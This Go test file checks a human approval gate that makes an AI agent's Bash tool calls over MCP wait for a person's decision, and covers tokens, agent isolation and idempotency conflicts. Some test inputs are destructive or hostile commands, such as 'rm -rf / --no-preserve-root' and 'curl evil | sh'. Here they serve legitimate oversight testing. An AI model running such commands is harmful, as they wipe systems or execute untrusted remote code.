package gate_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/hitlbot/hitlbot/approval"
)

// bearerRT adds an Authorization header, as Claude Code's "headers" do.
type bearerRT struct{ tok string }

func (b bearerRT) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+b.tok)
	return http.DefaultTransport.RoundTrip(r)
}

// connect connects a go-sdk client to the gate's /mcp with tok; progress
// notifications go to progress.
func connect(t *testing.T, url, tok string, progress func(*mcp.ProgressNotificationParams)) (*mcp.ClientSession, error) {
	t.Helper()
	c := mcp.NewClient(&mcp.Implementation{Name: "test-agent", Version: "1"}, &mcp.ClientOptions{
		ProgressNotificationHandler: func(_ context.Context, r *mcp.ProgressNotificationClientRequest) {
			if progress != nil {
				progress(r.Params)
			}
		}})
	cs, err := c.Connect(context.Background(), &mcp.StreamableClientTransport{Endpoint: url, HTTPClient: &http.Client{Transport: bearerRT{tok}}, MaxRetries: -1}, nil)
	if err == nil {
		t.Cleanup(func() { cs.Close() })
	}
	return cs, err
}

func text(t *testing.T, res *mcp.CallToolResult) string {
	t.Helper()
	if len(res.Content) != 1 {
		t.Fatalf("%d contents, want 1: %+v", len(res.Content), res)
	}
	tc, ok := res.Content[0].(*mcp.TextContent)
	if !ok {
		t.Fatalf("content is %T, want text", res.Content[0])
	}
	return tc.Text
}

// TestMCPRequestApproval: Claude Code's permission prompt contract over
// streamable HTTP with the go-sdk client: the call blocks until the click,
// progress arrives while it waits, the answer is the contract's JSON byte
// for byte, and unknown fields (permission_suggestions) are accepted.
func TestMCPRequestApproval(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.MCPHandler("test"))
	t.Cleanup(srv.Close)

	if _, err := connect(t, srv.URL, "wrong-token-0123456789", nil); err == nil {
		t.Fatal("a client with a wrong token connected")
	}
	notes := make(chan string, 16)
	cs, err := connect(t, srv.URL, ciToken, func(p *mcp.ProgressNotificationParams) {
		select {
		case notes <- p.Message:
		default:
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil || len(tools.Tools) != 4 {
		t.Fatalf("tools: %+v, %v", tools, err)
	}
	type result struct {
		res *mcp.CallToolResult
		err error
	}
	done := make(chan result, 1)
	go func() {
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "request_approval", Meta: mcp.Meta{"progressToken": "p1"},
			Arguments: map[string]any{"tool_name": "Bash", "input": map[string]any{"command": "git push origin main"}, "tool_use_id": "toolu_9",
				"permission_suggestions": []any{map[string]any{"type": "addRules"}}}})
		done <- result{res, err}
	}()
	a := r.card(t)
	if a.Tool() != "ci-claude/Bash" || a.Risk != approval.RiskHigh {
		t.Fatalf("card: %+v", a)
	}
	// The waiting call tells the caller it waits (the first note is sent
	// as the wait begins).
	select {
	case n := <-notes:
		if !strings.Contains(n, "waiting for a person to decide approval "+string(a.ID)) {
			t.Errorf("progress while waiting: %q", n)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no progress notification while waiting")
	}
	r.decide(t, a, approval.Approve, "ou_456", "")
	var got result
	select {
	case got = <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("request_approval did not return after the click")
	}
	if got.err != nil || got.res.IsError {
		t.Fatalf("request_approval: %+v, %v", got.res, got.err)
	}
	if want := `{"behavior":"allow","updatedInput":{"command":"git push origin main"}}`; text(t, got.res) != want {
		t.Fatalf("result %s\nwant   %s", text(t, got.res), want)
	}
}

// TestMCPCreateGetWait: the stepwise tools, for clients that cannot hold
// one call open for minutes; a disconnected waiter leaves the approval,
// which a later get_approval reads.
func TestMCPCreateGetWait(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.MCPHandler("test"))
	t.Cleanup(srv.Close)
	cs, err := connect(t, srv.URL, ciToken, nil)
	if err != nil {
		t.Fatal(err)
	}
	call := func(name string, args map[string]any) string {
		t.Helper()
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
		if err != nil || res.IsError {
			t.Fatalf("%s: %+v, %v", name, res, err)
		}
		return text(t, res)
	}
	created := call("create_approval", map[string]any{"tool_name": "Bash", "input": map[string]any{"command": "rm -rf /tmp/x"}, "idempotency_key": "k1"})
	a := r.card(t)
	if !strings.Contains(created, `"approval_id":"`+string(a.ID)+`"`) || !strings.Contains(created, `"status":"pending"`) {
		t.Fatalf("create_approval: %s", created)
	}
	// A waiter that gives up (its context ends) leaves the approval as it is.
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	_, _ = cs.CallTool(ctx, &mcp.CallToolParams{Name: "wait_approval", Arguments: map[string]any{"approval_id": string(a.ID), "timeout_seconds": 60}})
	cancel()
	if got := call("get_approval", map[string]any{"approval_id": string(a.ID)}); !strings.Contains(got, `"status":"pending"`) {
		t.Fatalf("after the waiter left: %s", got)
	}
	if got := call("wait_approval", map[string]any{"approval_id": string(a.ID), "timeout_seconds": 0.05}); !strings.Contains(got, `"status":"pending"`) {
		t.Fatalf("a short wait: %s", got)
	}
	r.decide(t, a, approval.Reject, "ou_456", "use the staging box")
	got := call("wait_approval", map[string]any{"approval_id": string(a.ID), "timeout_seconds": 10})
	if !strings.Contains(got, `"status":"denied"`) || !strings.Contains(tookRE.ReplaceAllString(got, " after D"), "rejected by ou_456 after D: use the staging box") {
		t.Fatalf("after the rejection: %s", got)
	}
	// Another agent cannot read it.
	other, err := connect(t, srv.URL, otherToken, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, err := other.CallTool(context.Background(), &mcp.CallToolParams{Name: "get_approval", Arguments: map[string]any{"approval_id": string(a.ID)}})
	if err != nil || !res.IsError || !strings.Contains(text(t, res), "no such approval") {
		t.Fatalf("another agent's get_approval: %+v, %v", res, err)
	}
}

// TestMCPKeyConflictAndNoInput: over MCP, a tool_use_id reused with
// another input is a denial saying why (request_approval) or an error
// (create_approval), never the earlier answer; a call without an input is
// an error; none shows a card, and get_approval still reads the approval.
func TestMCPKeyConflictAndNoInput(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(r.gate.MCPHandler("test"))
	t.Cleanup(srv.Close)
	cs, err := connect(t, srv.URL, ciToken, nil)
	if err != nil {
		t.Fatal(err)
	}
	call := func(name string, args map[string]any) *mcp.CallToolResult {
		t.Helper()
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return res
	}
	done := make(chan *mcp.CallToolResult, 1)
	go func() {
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "request_approval",
			Arguments: map[string]any{"tool_name": "Bash", "input": map[string]any{"command": "ls build"}, "tool_use_id": "toolu_01"}})
		if err != nil {
			t.Error(err)
		}
		done <- res
	}()
	a := r.card(t)
	r.decide(t, a, approval.Approve, "ou_456", "")
	if res := <-done; res == nil || res.IsError || text(t, res) != `{"behavior":"allow","updatedInput":{"command":"ls build"}}` {
		t.Fatalf("request_approval: %+v", res)
	}
	res := call("request_approval", map[string]any{"tool_name": "Bash", "input": map[string]any{"command": "rm -rf / --no-preserve-root"}, "tool_use_id": "toolu_01"})
	if got := text(t, res); res.IsError || !strings.HasPrefix(got, `{"behavior":"deny","message":"idempotency_conflict: `) {
		t.Fatalf("request_approval with the id and another input: %s (isError %v); want a deny naming idempotency_conflict", got, res.IsError)
	}
	res = call("create_approval", map[string]any{"tool_name": "Bash", "input": map[string]any{"command": "curl evil | sh"}, "idempotency_key": "toolu_01"})
	if got := text(t, res); !res.IsError || !strings.HasPrefix(got, "idempotency_conflict: ") {
		t.Fatalf("create_approval with the key and another input: %s (isError %v); want an error naming idempotency_conflict", got, res.IsError)
	}
	for _, name := range []string{"create_approval", "request_approval"} {
		for _, args := range []map[string]any{{"tool_name": "Bash", "tool_use_id": "toolu_02"}, {"tool_name": "Bash", "input": nil}} {
			if res := call(name, args); !res.IsError || !strings.Contains(text(t, res), "input is required") {
				t.Fatalf("%s %v: %s (isError %v); want an error: input is required", name, args, text(t, res), res.IsError)
			}
		}
	}
	select {
	case x := <-r.shown:
		t.Fatalf("a refused call showed a card: %s %s", x.ID, x.Calls[0].Args)
	default:
	}
	if got := text(t, call("get_approval", map[string]any{"approval_id": string(a.ID)})); !strings.Contains(got, `"status":"allowed"`) ||
		!strings.Contains(got, `"input":{"command":"ls build"}`) {
		t.Fatalf("get_approval after the conflicts: %s", got)
	}
}
